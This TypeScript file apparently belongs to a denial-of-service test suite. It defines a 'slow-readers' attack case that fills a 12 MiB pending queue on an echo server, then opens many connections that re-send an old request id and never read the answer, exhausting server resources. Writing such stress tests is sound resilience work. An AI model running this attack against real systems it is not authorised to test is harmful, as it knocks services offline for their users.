/**
 * Row 3: one session builds a 12 MiB queue of unacked 64 KiB echoes; then N connections each
 * re-send its last rid (a retransmission, answered at once with the whole queue) and never read
 * the answer.
 */
import { bigStringBody, codeOf, pollBody, SETUP, sidOf } from '../bodies.js';
import { mib, tally, tallyText, type AttackCase, type AttackContext, type Outcome } from '../case.js';
import { post, sendAndNeverRead } from '../raw.js';

/** The pending queue the readers are sent (bytes). */
export const QUEUE_BYTES = 12 * 2 ** 20;
/** Connections opened per tick, and the tick (ms): a quick ramp that the server still sees one by one. */
const PER_TICK = 10;
const TICK_MS = 100;

export const slowReaders: AttackCase = {
  name: 'slow-readers',
  row: 3,
  summary: 'a 12 MiB pending queue, then N connections that re-send an old rid and never read the answer',
  target: 'echo',
  victim: 'echo',
  count: { what: 'connections', default: 100 },
  async run(ctx: AttackContext): Promise<Outcome> {
    const want = ctx.count ?? 100;
    const conn = ctx.conn(0, 4096);
    const statuses: Record<string, number> = {};
    const setup = await conn.request(post('/comet', SETUP), 10_000);
    const sid = sidOf(setup.body);
    if (sid === null) throw new Error(`setup answered ${setup.status}`);
    let rid = 0;
    let queued = 0;
    const t0 = performance.now();
    try {
      while (queued < QUEUE_BYTES && !ctx.stopped) {
        const body = bigStringBody(sid, ++rid, 0);
        const r = await conn.request(post('/comet', body), 30_000);
        tally(statuses, codeOf(r.status, r.body));
        if (r.status === 200) queued += body.length;
        else break;
      }
    } catch (e) {
      if (!ctx.stopped) tally(statuses, e instanceof Error ? e.message : String(e));
    }
    const fillSecs = (performance.now() - t0) / 1000;
    // The last rid again: inside the rid window, so a retransmission, answered with every packet.
    const again = post('/comet', pollBody(sid, rid, 0));
    let opened = 0;
    while (opened < want && !ctx.stopped) {
      for (let i = 0; i < PER_TICK && opened < want; i++, opened++) {
        ctx.track(sendAndNeverRead(ctx.host, ctx.port, ctx.address(0), again));
      }
      await ctx.sleep(TICK_MS);
    }
    while (!ctx.stopped) await ctx.sleep(1_000);
    return {
      summary: `queue of ${mib(queued)} built in ${fillSecs.toFixed(1)} s (${rid} requests: ${tallyText(statuses)}); ${opened} connections re-sent rid ${rid} and never read`,
      sessions: 1,
      ownPass: null,
      figures: { queued_bytes: queued, fill_seconds: fillSecs, readers: opened, answers: tallyText(statuses) },
    };
  },
};
